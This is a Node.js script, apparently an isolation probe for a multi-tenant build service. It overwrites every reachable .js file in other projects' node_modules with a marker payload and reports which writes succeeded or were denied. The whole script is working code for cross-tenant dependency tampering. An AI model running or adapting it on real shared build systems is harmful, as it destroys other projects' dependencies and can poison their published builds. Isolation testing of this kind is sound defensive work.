// Attack: find other projects' cached dependencies (the build cache, other workspaces) and
// rewrite them, so their next build publishes this tenant's code.
const fs = require('fs');
const path = require('path');
const { params, publish } = require('./report');

const PAYLOAD = "module.exports = () => 'PLANTED BY TENANT B';\n";
const own = path.resolve('..');
const planted = [];
const denied = {};

function walk(dir, depth) {
  if (depth > 12 || dir === own) return;
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch (e) {
    denied[dir] = e.code;
    return;
  }
  for (const entry of entries) {
    const p = path.join(dir, entry.name);
    if (entry.isDirectory()) {
      walk(p, depth + 1);
    } else if (entry.isFile() && p.includes('/node_modules/') && p.endsWith('.js')) {
      try {
        fs.writeFileSync(p, PAYLOAD);
        planted.push(p);
      } catch (e) {
        denied[p] = e.code;
      }
    }
  }
}

for (const root of params().roots) walk(root, 0);
publish('PLANT', { planted, denied });
